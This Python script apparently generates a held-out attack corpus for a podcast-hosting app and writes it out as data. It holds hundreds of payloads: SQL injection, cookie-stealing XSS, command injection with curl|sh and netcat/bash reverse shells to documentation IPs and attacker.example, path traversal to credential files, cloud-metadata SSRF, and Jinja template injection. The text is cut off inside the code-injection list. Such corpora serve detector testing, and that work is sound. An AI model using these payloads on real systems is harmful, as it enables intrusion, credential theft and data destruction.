"""Attack held-out values for the podcast hosting / publishing corpus.

Each value is a working payload for a vulnerable podcast app that places the field
where the class says: episode titles / search terms concatenated into SQL, show
notes rendered as HTML without escaping, audio file names passed to an ffmpeg/sox
shell line, transcript/artwork paths joined to a media root, feed / enclosure /
artwork URLs fetched server-side, show-note templates rendered server-side,
sponsor codes logged or mailed, guest directory lookups built as LDAP/XPath
filters.  Classes are "<context>-<technique>[+<encoding>]"; "plain-" classes carry
no podcast dressing.  Everything was hand-written for this corpus; small
templates recombine hand-written pools.  Attacker hosts use attacker.example and
the documentation ranges 203.0.113.0/24 and 198.51.100.0/24.  Secrets are fake.

Output: attacks.jsonl next to this file.  Deterministic (fixed SEED, no set order).
"""
import json
import random
from pathlib import Path

SEED = 9302
PREFIX = "ha93"

# ---------------------------------------------------------------- SQL injection
SQLI = [
    ("title-union", "Ep. 112' UNION SELECT username, password_hash FROM hosts-- -"),
    ("title-union", "Drop Everything\" UNION ALL SELECT NULL, email, api_key, NULL FROM publishers#"),
    ("search-union", "sleep%' UNION SELECT table_name, column_name FROM information_schema.columns WHERE '%'='"),
    ("search-union", "') UNION SELECT feed_url, owner_email, 1 FROM shows WHERE ('a'='a"),
    ("search-tautology", "ana ruiz' OR '1'='1"),
    ("plain-tautology", "\" or \"\"=\""),
    ("search-tautology", "union strike') OR 1=1 -- "),
    ("guid-tautology", "deep-dive-ep-112' OR 'x'='x' LIMIT 1 OFFSET 3 -- "),
    ("episode-id-boolean", "112 AND 1=1"),
    ("episode-id-boolean", "112 AND SUBSTRING((SELECT password_hash FROM hosts LIMIT 1),1,1)='$'"),
    ("episode-id-boolean", "112 AND ASCII(SUBSTR((SELECT api_key FROM publishers WHERE id=1),1,1))>77"),
    ("season-boolean", "3 AND (SELECT COUNT(*) FROM hosts WHERE is_admin=1)>0"),
    ("search-time", "caffeine' AND SLEEP(7)-- -"),
    ("search-time", "caffeine'; SELECT pg_sleep(9);--"),
    ("guid-time", "917393e3-1b1e'; WAITFOR DELAY '0:0:8'--"),
    ("episode-id-time", "112 AND (SELECT 4821 FROM (SELECT SLEEP(6))x)"),
    ("title-time", "Bonus' AND IF(MID(@@version,1,1)='8',BENCHMARK(40000000,SHA1('pod')),0) AND 'a'='a"),
    ("chapter-time", "00:12:30' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END) || '"),
    ("notes-stacked", "Great ep!'); DROP TABLE episodes; --"),
    ("notes-stacked", "thanks'; UPDATE hosts SET is_admin=1 WHERE email='mallory@attacker.example'; --"),
    ("question-stacked", "loved it'); INSERT INTO hosts(email,password_hash,is_admin) VALUES('x@attacker.example','$2b$12$FAKEFAKEFAKE',1);--"),
    ("bio-stacked", "Kai Müller'; EXEC xp_cmdshell 'nslookup bio.attacker.example';--"),
    ("sponsor-code-error", "DIVE15' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT api_key FROM publishers LIMIT 1)))-- -"),
    ("sponsor-code-error", "SLEEP15' AND UPDATEXML(1,CONCAT(0x3a,(SELECT user())),1)#"),
    ("sponsor-code-error", "BREW-30' AND 1=CONVERT(int,(SELECT TOP 1 password_hash FROM hosts))--"),
    ("sponsor-code-error", "QUILL10' AND 1=CAST((SELECT string_agg(email,',') FROM hosts) AS int)--"),
    ("sort-orderby", "pubDate DESC, (SELECT CASE WHEN (SELECT substr(password_hash,1,1) FROM hosts LIMIT 1)='$' THEN 1 ELSE 1/0 END)"),
    ("sort-orderby", "(CASE WHEN (SELECT COUNT(*) FROM hosts)>5 THEN duration ELSE title END)"),
    ("sort-orderby", "3,IF((SELECT 1 FROM dual)=1,SLEEP(5),0)"),
    ("feed-limit", "10 UNION SELECT 1,version(),current_user,4,5"),
    ("category-oob", "Technology' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT api_key FROM publishers LIMIT 1),'.cat.attacker.example\\\\a'))-- -"),
    ("category-oob", "Tech'; COPY (SELECT email FROM hosts) TO PROGRAM 'curl -d @- http://203.0.113.40/x';--"),
    ("category-oob", "Comedy'; DECLARE @h varchar(99); SET @h=(SELECT TOP 1 email FROM hosts); EXEC('master..xp_dirtree \"\\\\'+@h+'.attacker.example\\x\"');--"),
    ("title-sqlite", "Ep 9' UNION SELECT name, sql FROM sqlite_master--"),
    ("search-sqlite", "x' AND (SELECT CASE WHEN substr((SELECT password_hash FROM hosts LIMIT 1),1,1)='$' THEN randomblob(400000000) ELSE 1 END)--"),
    ("search-oracle", "sleep' UNION SELECT banner, NULL FROM v$version--"),
    ("guid-oracle", "ep112' AND 1=(SELECT UTL_INADDR.get_host_address((SELECT user FROM dual)||'.attacker.example') FROM dual)--"),
    ("search-oracle", "caffeine' AND 3=DBMS_PIPE.RECEIVE_MESSAGE('a',8)--"),
    ("tag-insert", "true'),('1','1'); DELETE FROM episode_tags WHERE '1'='1"),
    ("transcript-insert", "HOST: hi', (SELECT password_hash FROM hosts WHERE id=1)) -- "),
    ("rss-author-union", "Mike O'Neil' UNION SELECT owner_email FROM shows-- "),
    ("itunes-explicit", "false' OR explicit IS NOT NULL UNION SELECT token FROM sessions--"),
    ("guest-name-secondorder", "Dana O'Connell'||(SELECT password_hash FROM hosts LIMIT 1)||'"),
    ("bitrate-numeric", "128 OR 1=1"),
    ("bitrate-numeric", "128) UNION SELECT id, feed_token FROM shows WHERE (1=1"),
    ("duration-numeric", "3764-(SELECT 0 WHERE 1=(SELECT 1 FROM pg_sleep(6)))"),
    ("listener-email", "fan@example.org' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT password_hash FROM hosts LIMIT 0,1),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"),
    ("search-json", "sleep' UNION SELECT json_agg(hosts)::text FROM hosts--"),
    ("search-having", "x' GROUP BY id HAVING 1=1--"),
    ("title-polyglot", "Ep 47: SELECT * FROM feelings' OR (SELECT 1)=1 AND ''='"),
    ("search-union+comment", "sleep'/**/UNION/**/SELECT/**/email,password_hash/**/FROM/**/hosts--"),
    ("search-union+versioned-comment", "sleep' /*!50000UNION*/ /*!50000SELECT*/ email, api_key FROM publishers-- -"),
    ("search-union+case", "sleep' uNiOn SeLeCt email, password_hash fRoM hosts-- -"),
    ("search-tautology+urlenc", "ana%27%20OR%20%271%27%3D%271"),
    ("search-union+double-urlenc", "sleep%2527%2520UNION%2520SELECT%2520email%252Cpassword_hash%2520FROM%2520hosts--%2520-"),
    ("search-tautology+newline", "ana'\nOR\n1=1\n--"),
    ("title-tautology+fullwidth-quote", "Ep 112＇ OR 1=1-- -"),
    ("guid-union+hex", "0x6465657064697665' UNION SELECT 0x61646d696e, password_hash FROM hosts-- -"),
    ("plain-tautology+nospace", "'or(1)=(1)#"),
    ("search-time+char", "x' AND SLEEP(CHAR(53))-- -"),
    ("plain-tautology", "admin'--"),
    ("plain-tautology", "' OR 'a'='a' --"),
    ("plain-union", "-1 UNION SELECT 1,2,@@version,4-- -"),
    ("plain-time", "1' AND SLEEP(5) AND '1'='1"),
    ("plain-stacked", "1; DROP TABLE users--"),
    ("plain-error", "' AND 1=CONVERT(int,@@version)--"),
    ("plain-boolean", "1' AND '1'='2"),
]
SQLI_FIELDS = [("search", "caffeine"), ("title", "Ep. 88"), ("guid", "deep-dive-ep-"), ("tag", "sleep"),
               ("chapter", "00:33:15")]
SQLI_TAILS = [
    ("time", "' AND SLEEP({n})-- -"),
    ("time", "'; SELECT pg_sleep({n})--"),
    ("time", "'; WAITFOR DELAY '0:0:{n}'--"),
    ("union", "' UNION SELECT NULL,{col},NULL FROM hosts-- -"),
]
SQLI_COLS = ["email", "password_hash", "api_key", "feed_token", "session_id"]


def sqli_template(rng):
    ctx, base = rng.choice(SQLI_FIELDS)
    tech, tail = rng.choice(SQLI_TAILS)
    if ctx == "guid":
        base = base + str(rng.randint(1, 300))
    return (f"{ctx}-{tech}", base + tail.format(n=rng.randint(4, 15), col=rng.choice(SQLI_COLS)))


# ---------------------------------------------------------------- XSS
XSS = [
    ("notes-script", "00:00 - intro\n02:15 - news <script>fetch('https://attacker.example/c?k='+document.cookie)</script>"),
    ("notes-img-onerror", "Links mentioned: <img src=x onerror=\"new Image().src='//attacker.example/s?'+localStorage.getItem('token')\">"),
    ("notes-svg-onload", "Cover art preview: <svg onload=alert(document.domain)>"),
    ("notes-anchor-js", "Guest's website: <a href=\"javascript:fetch('//attacker.example/'+document.cookie)\">ana-ruiz.example</a>"),
    ("notes-details-ontoggle", "<details open ontoggle=\"eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS94Jyk='))\">Spoilers (click)</details>"),
    ("notes-iframe-srcdoc", "Embed: <iframe srcdoc=\"<script>parent.location='//attacker.example/p?'+parent.document.cookie</script>\"></iframe>"),
    ("notes-form-action", "<form action=\"https://attacker.example/login\" method=post>Session expired, please re-enter password: <input name=p type=password><button>Log in</button></form>"),
    ("notes-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/deep-dive\">"),
    ("notes-style-expression", "<div style=\"background:url(javascript:alert(1))\">Chapters below</div>"),
    ("notes-object-data", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("notes-base-hijack", "<base href=\"https://attacker.example/\">Transcript at /t/ep-112"),
    ("title-attr-breakout", "Drop Everything\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("title-tag-breakout", "Ep 200 </title><script>alert(1)</script>"),
    ("title-textarea-breakout", "Ep. 47 </textarea><img src=1 onerror=alert(47)>"),
    ("title-autofocus", "S03E09\"><input autofocus onfocus=alert(document.domain)>"),
    ("guest-bio-event", "Dr. Ana Ruiz <b onpointerenter=alert(1)>sleep researcher</b>"),
    ("guest-bio-svg-animate", "Kai Müller <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("guest-bio-video-source", "Mei-Ling Chou <video><source onerror=\"alert(1)\"></video>"),
    ("guest-bio-marquee", "<marquee onstart=alert(document.cookie)>Now booking guests!</marquee>"),
    ("chapter-title-script", "{\"startTime\":754,\"title\":\"Interview<script>alert(754)</script>\"}"),
    ("chapter-url-js", "{\"startTime\":0,\"title\":\"Intro\",\"url\":\"javascript:alert(document.cookie)\"}"),
    ("chapter-img-url", "{\"startTime\":12,\"title\":\"Art\",\"img\":\"x\\\" onerror=\\\"alert(1)\"}"),
    ("rss-cdata-script", "<description><![CDATA[<p>Sleep tips</p><script src=\"https://attacker.example/hook.js\"></script>]]></description>"),
    ("rss-cdata-img", "<content:encoded><![CDATA[<img src=/ onerror=alert(origin)>]]></content:encoded>"),
    ("rss-link-js", "<link>javascript:alert(document.domain)</link>"),
    ("rss-enclosure-attr", "<enclosure url=\"https://media.example.org/ep.mp3\" onmouseover=\"alert(1)\" type=\"audio/mpeg\"/>"),
    ("rss-person-href", "<podcast:person role=\"guest\" href=\"javascript:alert(1)\">Dr. Ana Ruiz</podcast:person>"),
    ("rss-itunes-image", "<itunes:image href=\"x\" onerror=\"alert(1)\"/>"),
    ("transcript-script", "MIKE: So you just... dropped the whole table?\nPRIYA: <script>document.location='https://attacker.example/?'+document.cookie</script>"),
    ("transcript-vtt-tag", "WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v MIKE><img src=x onerror=alert(1)>Hi everyone</v>"),
    ("transcript-speaker", "<img/src/onerror=prompt(1)>: can you hear me now?"),
    ("sponsor-link", "Use code DIVE15 at <a href=\"jAvAsCrIpT:alert(1)\">brewbox.example</a>"),
    ("sponsor-promo-js-string", "DIVE15';alert(document.cookie);//"),
    ("sponsor-promo-js-template", "SLEEP15${alert(document.domain)}"),
    ("question-js-string-breakout", "Hi!\\\";alert(1);//"),
    ("question-script-close", "</script><script>alert('listener')</script>"),
    ("question-style-import", "<style>@import 'https://attacker.example/x.css';</style>Love the show!"),
    ("question-math-href", "<math><mi xlink:href=\"javascript:alert(1)\">click for bonus ep</mi></math>"),
    ("plain-tag-breakout", "\"><script>alert(document.domain)</script>"),
    ("search-reflected", "sleep'><svg/onload=alert`1`>"),
    ("plain-js-string-breakout", "';alert(String.fromCharCode(88,83,83))//"),
    ("search-dom-hash", "#<img src=x onerror=alert(location.hash)>"),
    ("audio-filename", "ep112\"><img src=x onerror=alert(1)>.mp3"),
    ("audio-id3-comment", "COMM: \"Mastered by Léa <script>fetch('//attacker.example/'+document.cookie)</script>\""),
    ("artwork-svg-upload", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script><rect width=\"3000\" height=\"3000\"/></svg>"),
    ("notes-markdown-link", "Links: [Ana's research](javascript:alert(document.cookie))"),
    ("notes-markdown-image", "![cover](https://x.example/a.png\"onerror=\"alert(1))"),
    ("notes-dangling-markup", "Transcript: <img src='https://attacker.example/collect?html="),
    ("notes-mutation-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("notes-template-mxss", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("notes-angular-csti", "Chapters: {{constructor.constructor('alert(document.cookie)')()}}"),
    ("notes-vue-csti", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("embed-player-postmessage", "<iframe src=\"https://player.example/ep112\" onload=\"this.contentWindow.postMessage('<img src=x onerror=alert(1)>','*')\"></iframe>"),
    ("notes-svg-use", "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)'/&gt;&lt;/svg&gt;#x\"/></svg>"),
    ("notes-img+entities", "&lt;img src=x onerror=alert(1)&gt;"),
    ("notes-anchor+entity-js", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">show notes</a>"),
    ("notes-anchor+tab-js", "<a href=\"java\tscript:alert(1)\">transcript</a>"),
    ("search-script+urlenc", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("search-svg+double-urlenc", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("title-img+unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("plain-script+case", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
    ("notes-img+hex-entity", "<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;\">"),
    ("notes-img+nullbyte-split", "<im\u0000g src=x onerror=alert(1)>"),
    ("notes-body-onload", "<body onload=alert('ep112')>"),
    ("notes-onanimation", "<style>@keyframes k{}</style><p style=\"animation-name:k\" onanimationstart=\"alert(1)\">00:00 intro</p>"),
    ("plain-svg+slash-separator", "<svg/onload=alert(1)//"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img", "<img src=x onerror=alert(1)>"),
    ("plain-svg", "<svg onload=alert(1)>"),
    ("plain-js-uri", "javascript:alert(document.cookie)"),
    ("plain-attr-breakout", "\" autofocus onfocus=alert(1) \""),
]
XSS_WRAP = ["00:{m:02d}:{s:02d} - {p}", "Guest: {p}", "Ep. {m} – {p}", "Q from a listener: {p}"]
XSS_PAYLOADS = ["<img src=x onerror=alert({m})>", "<svg onload=alert({m})>", "<iframe src=javascript:alert({m})>",
                "<input onfocus=alert({m}) autofocus>", "<audio src=x onerror=alert({m})>"]


def xss_template(rng):
    m, s = rng.randint(1, 59), rng.randint(0, 59)
    wrap = rng.choice(XSS_WRAP)
    p = rng.choice(XSS_PAYLOADS).format(m=m)
    return ("notes-event-handler", wrap.format(m=m, s=s, p=p))


# ---------------------------------------------------------------- command injection
CMDI = [
    ("audio-filename-semicolon", "ep112_master.wav; curl -s https://attacker.example/p.sh | sh"),
    ("audio-filename-subshell", "ep112_$(id > /tmp/.p; curl -T /tmp/.p http://203.0.113.7/).wav"),
    ("audio-filename-backtick", "interview_`wget -qO- http://198.51.100.23/a|sh`.wav"),
    ("audio-filename-pipe", "ep47.mp3 | nc 203.0.113.9 4444 -e /bin/sh"),
    ("audio-filename-and", "trailer_s4.mp3 && cat /etc/passwd > /srv/media/public/trailer.txt"),
    ("audio-filename-or", "missing.wav || bash -i >& /dev/tcp/203.0.113.50/9001 0>&1"),
    ("audio-filename-newline", "ep41_correct.mp3\ncurl http://attacker.example/$(whoami)"),
    ("audio-filename-quote-breakout", "ep112.wav'; python3 -c 'import os;os.system(\"id\")'; echo '"),
    ("audio-filename-dq-breakout", "ep112.wav\"; nslookup $(hostname).attacker.example; \""),
    ("ffmpeg-title-metadata", "Drop Everything\" -f mp3 /dev/null; curl attacker.example/t -o /tmp/t; sh /tmp/t; #"),
    ("ffmpeg-bitrate-arg", "128k -i /etc/passwd -f data -"),
    ("ffmpeg-bitrate-arg", "128k; sleep 12"),
    ("ffmpeg-samplerate", "44100 $(curl -s http://198.51.100.4/r)"),
    ("ffmpeg-loudnorm", "I=-16:TP=-1.5:LRA=11' ; wget http://attacker.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m; '"),
    ("ffmpeg-concat-file", "file '/etc/shadow'\nfile 'ep112_intro.wav'"),
    ("ffmpeg-option-injection", "-filter_complex \"amovie=/etc/passwd\" -f wav -"),
    ("sox-trim", "0 =01:02:44; rm -rf /srv/media/shows"),
    ("sox-effect", "gain -3 `touch /tmp/pwned`"),
    ("lame-tag-title", "--tt \"$(cat /proc/self/environ | base64 -w0 | curl -d @- attacker.example)\""),
    ("id3-artist", "Deep Dive$(sleep 10)"),
    ("id3-album", "Season 3;ping -c 5 198.51.100.77;"),
    ("transcode-preset", "opus_64k&&curl${IFS}http://attacker.example/i|bash"),
    ("transcode-preset", "mp3_128;{cat,/etc/passwd}"),
    ("transcode-preset", "aac_96k;cat$IFS/etc/hostname"),
    ("waveform-width", "1800x120; id"),
    ("waveform-width", "1800x120`id`"),
    ("youtube-dl-import-url", "https://www.youtube.example/watch?v=abc --exec 'curl attacker.example/x|sh'"),
    ("yt-dlp-import-url", "https://video.example/ep --output '%(title)s;id;.mp3'"),
    ("rss-import-feedurl", "https://feeds.example.org/deep-dive.xml; curl -F f=@/app/.env https://attacker.example/up"),
    ("rss-import-feedurl", "http://feeds.example.org/x.xml`curl 203.0.113.66`"),
    ("git-backup-branch", "main --upload-pack='touch /tmp/x'"),
    ("zip-export-name", "ep112_stems.zip -T -TT 'sh -c id'"),
    ("tar-export-name", "backup.tar --checkpoint=1 --checkpoint-action=exec=sh\\ /tmp/s.sh"),
    ("rsync-target", "-e 'sh -c \"id > /tmp/r\"' media@host:/srv"),
    ("ssh-mirror-host", "-oProxyCommand=curl${IFS}attacker.example/pc|sh storage.example"),
    ("ping-check-host", "media.example.org; cat /etc/passwd"),
    ("ping-check-host", "media.example.org\nid"),
    ("ping-check-host", "$(curl -s http://attacker.example/h)"),
    ("dns-verify-domain", "podcast.example.org|dig +short txt exfil.attacker.example"),
    ("imagemagick-art-resize", "cover.jpg[3000x3000]; convert -version; curl attacker.example/im | sh"),
    ("audio-filename-windows", "ep112.wav & powershell -nop -w hidden -c \"iwr http://203.0.113.8/a.ps1|iex\""),
    ("audio-filename-windows", "ep112.wav | type C:\\Windows\\win.ini"),
    ("audio-filename-windows", "ep112.wav && certutil -urlcache -f http://198.51.100.9/x.exe %TEMP%\\x.exe && %TEMP%\\x.exe"),
    ("audio-filename-windows", "ep112.wav%0a whoami"),
    ("episode-slug-env", "ep112;env|curl -X POST --data-binary @- https://attacker.example/e"),
    ("audio-filename+ifs", "ep.wav;curl${IFS}-s${IFS}attacker.example/s${IFS}|${IFS}sh"),
    ("audio-filename+glob", "ep.wav;/???/c?t /e??/p?ss??"),
    ("audio-filename+quote-split", "ep.wav;w'h'o'a'm'i"),
    ("audio-filename+backslash-split", "ep.wav;c\\u\\r\\l attacker.example/q|s\\h"),
    ("audio-filename+var-expansion", "ep.wav;a=cu;b=rl;$a$b attacker.example/v|sh"),
    ("audio-filename+base64", "ep.wav;echo Y3VybCBhdHRhY2tlci5leGFtcGxlL2J8c2g=|base64 -d|sh"),
    ("audio-filename+hex-printf", "ep.wav;$(printf '\\x69\\x64')"),
    ("audio-filename+urlenc", "ep112.wav%3B%20curl%20attacker.example%2Fu%20%7C%20sh"),
    ("audio-filename+double-urlenc", "ep112.wav%253B%2520id"),
    ("audio-filename+case-windows", "ep112.wav & PoWeRsHeLl -EnC SQBFAFgA"),
    ("audio-filename+brace", "ep.wav;{wget,-qO-,attacker.example/br}|sh"),
    ("audio-filename+dollar-at", "ep.wav;wh$@oami"),
    ("audio-filename+tab", "ep.wav;\tcat\t/etc/passwd"),
    ("plain-semicolon", "; id"),
    ("plain-subshell", "$(whoami)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-and", "&& ping -c 3 203.0.113.1"),
]
CMDI_FILES = ["ep{n}_master.wav", "interview_raw_{n}.wav", "S03E{n:02d}.mp3", "bonus_{n}.m4a"]
CMDI_CMDS = ["; sleep {d}", "$(sleep {d})", "`sleep {d}`", "| sleep {d}", "&& ping -c {d} 198.51.100.12"]


def cmdi_template(rng):
    n = rng.randint(1, 99)
    f = rng.choice(CMDI_FILES).format(n=n)
    return ("audio-filename-time", f + rng.choice(CMDI_CMDS).format(d=rng.randint(5, 20)))


# ---------------------------------------------------------------- path traversal
TRAVERSAL = [
    ("plain-relative", "../../../../etc/passwd"),
    ("audio-path-relative", "shows/deep-dive/../../../../../etc/shadow"),
    ("audio-path-relative", "ep112/../../../app/config/settings.py"),
    ("audio-path-absolute", "/etc/passwd"),
    ("plain-absolute", "/proc/self/environ"),
    ("transcript-path", "../../../../../var/www/.env"),
    ("transcript-path", "ep112.vtt/../../../../root/.ssh/id_rsa"),
    ("chapters-path", "../../../../home/app/.aws/credentials"),
    ("chapters-path", "..//..//..//..//etc//hostname"),
    ("artwork-path", "../../../../../../proc/self/cmdline"),
    ("artwork-path", "covers/....//....//....//....//etc/passwd"),
    ("artwork-path", "covers/..././..././..././..././etc/passwd"),
    ("stems-zip-slip", "../../../../srv/www/static/shell.php"),
    ("stems-zip-slip", "stems/../../../../../etc/cron.d/podsync"),
    ("export-filename", "..\\..\\..\\..\\windows\\win.ini"),
    ("export-filename", "C:\\inetpub\\wwwroot\\web.config"),
    ("export-filename", "..\\..\\..\\Users\\Administrator\\NTUSER.DAT"),
    ("feed-template", "../../../../../app/templates/admin/../../../../etc/passwd"),
    ("audio-path-nullbyte", "../../../../etc/passwd%00.mp3"),
    ("audio-path-nullbyte", "../../../../etc/passwd\u0000ep112.wav"),
    ("plain-relative+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("audio-path+double-urlenc", "..%252F..%252F..%252F..%252Fetc%252Fpasswd"),
    ("audio-path+urlenc-dots", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("audio-path+overlong-utf8", "..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("audio-path+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow"),
    ("audio-path+16bit-unicode", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("audio-path+backslash-urlenc", "..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
    ("audio-path+mixed-slash", "..\\/..\\/..\\/..\\/etc/passwd"),
    ("transcript-file-uri", "file:///etc/passwd"),
    ("transcript-file-uri", "file:///C:/Windows/System32/drivers/etc/hosts"),
    ("php-include-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("java-classpath", "../../WEB-INF/web.xml"),
    ("java-classpath", "....//....//WEB-INF/classes/application.properties"),
    ("log-viewer-path", "../../../../var/log/nginx/access.log"),
    ("log-viewer-path", "../../../../../proc/self/fd/2"),
    ("language-pack", "../../../../../../etc/passwd#fr-ca"),
    ("theme-name", "default/../../../../../../app/secrets.yaml"),
    ("download-episode-param", "/srv/media/shows/deep-dive/../../../../etc/group"),
    ("symlink-name-upload", "ep112.mp3 -> /etc/passwd"),
    ("k8s-secrets", "../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("git-dir", "../../../.git/config"),
    ("docker-env", "../../../../proc/1/environ"),
    ("plain-relative", "../../../etc/passwd"),
    ("plain-windows", "..\\..\\..\\boot.ini"),
    ("plain-absolute", "/etc/shadow"),
]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.bash_history", "app/.env",
                "etc/nginx/nginx.conf"]
TRAV_PREFIX = ["media/", "shows/night-shift/", "transcripts/", "art/", ""]


def traversal_template(rng):
    depth = rng.randint(3, 9)
    sep = rng.choice(["../", "..//", "....//"])
    return ("audio-path-relative", rng.choice(TRAV_PREFIX) + sep * depth + rng.choice(TRAV_TARGETS))


# ---------------------------------------------------------------- SSRF
SSRF = [
    ("enclosure-url-metadata", "<enclosure url=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" length=\"1\" type=\"audio/mpeg\"/>"),
    ("feed-import-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/podcast-role"),
    ("feed-import-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("feed-import-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("feed-import-alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("feed-import-ecs", "http://169.254.170.2/v2/credentials/"),
    ("feed-import-localhost", "http://127.0.0.1:8080/admin/feeds?delete=all"),
    ("plain-localhost", "http://localhost:6379/"),
    ("feed-import-localhost", "http://[::1]:9200/_cat/indices"),
    ("feed-import-internal", "http://10.0.0.12:2375/containers/json"),
    ("feed-import-internal", "http://192.168.1.1/cgi-bin/config.exp"),
    ("feed-import-internal", "http://172.17.0.1:10250/pods"),
    ("feed-import-internal", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("artwork-url-localhost", "<itunes:image href=\"http://127.0.0.1:5000/internal/debug/vars\"/>"),
    ("transcript-url-internal", "<podcast:transcript url=\"http://10.10.0.5:8500/v1/kv/?recurse\" type=\"text/vtt\"/>"),
    ("chapters-url-metadata", "<podcast:chapters url=\"http://169.254.169.254/computeMetadata/v1/project/\" type=\"application/json+chapters\"/>"),
    ("new-feed-url-redirect", "<itunes:new-feed-url>http://127.0.0.1:2379/v2/keys/?recursive=true</itunes:new-feed-url>"),
    ("enclosure-url-gopher", "gopher://127.0.0.1:6379/_SET%20pwn%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example|sh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("feed-import-gopher", "gopher://localhost:11211/_stats%0d%0a"),
    ("plain-dict-scheme", "dict://127.0.0.1:6379/info"),
    ("feed-import-file", "file:///etc/nginx/conf.d/default.conf"),
    ("feed-import-file", "file://localhost/proc/self/environ"),
    ("feed-import-ldap", "ldap://127.0.0.1:389/dc=internal"),
    ("feed-import-ftp", "ftp://10.0.0.3/backups/db.sql"),
    ("feed-import-tftp", "tftp://198.51.100.5/pod.cfg"),
    ("feed-import-jar", "jar:http://127.0.0.1:8080/app.jar!/config.properties"),
    ("feed-import-userinfo-confusion", "https://feeds.example.org@169.254.169.254/latest/meta-data/"),
    ("feed-import-userinfo-confusion", "http://media.example.org#@127.0.0.1:8080/admin"),
    ("feed-import-backslash-confusion", "http://127.0.0.1:8080\\@feeds.example.org/"),
    ("feed-import-dns-rebind", "http://169.254.169.254.nip.attacker.example/latest/meta-data/"),
    ("feed-import-dns-rebind", "http://rebind-127-0-0-1.attacker.example:8080/admin"),
    ("feed-import-redirect", "https://attacker.example/302?to=http://169.254.169.254/latest/user-data"),
    ("enclosure-url+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("enclosure-url+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("enclosure-url+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("enclosure-url+short-ip", "http://127.1:8080/admin"),
    ("enclosure-url+zero-ip", "http://0.0.0.0:6379/"),
    ("enclosure-url+ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("enclosure-url+ipv6-mapped-hex", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("enclosure-url+mixed-ip", "http://0xA9.254.0251.0xfe/latest/meta-data/"),
    ("enclosure-url+urlenc-host", "http://%31%36%39.254.169.254/latest/meta-data/"),
    ("webhook-url-internal", "http://127.0.0.1:15000/config_dump"),
    ("webhook-url-internal", "http://10.0.0.7:8080/actuator/env"),
    ("oembed-url-localhost", "https://player.example/oembed?url=http://localhost:8001/api/v1/secrets"),
    ("podroll-remote-item", "<podcast:remoteItem feedUrl=\"http://169.254.169.254/latest/api/token\"/>"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://127.0.0.1/"),
    ("plain-file", "file:///etc/hosts"),
]
SSRF_HOSTS = ["127.0.0.1", "localhost", "10.0.0.{o}", "192.168.0.{o}", "172.16.0.{o}"]
SSRF_PORTS = [22, 2375, 3306, 5432, 6379, 8080, 9000, 9200, 11211, 27017]


def ssrf_template(rng):
    host = rng.choice(SSRF_HOSTS).format(o=rng.randint(2, 250))
    port = rng.choice(SSRF_PORTS)
    ep = rng.randint(1, 300)
    return ("enclosure-url-portscan", f"<enclosure url=\"http://{host}:{port}/ep{ep}.mp3\" length=\"0\" type=\"audio/mpeg\"/>")


# ---------------------------------------------------------------- code injection
CODE = [
    ("notes-ssti-jinja", "Show notes for {{ config.items() }}"),
    ("notes-ssti-jinja", "00:00 intro {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("notes-ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}"),
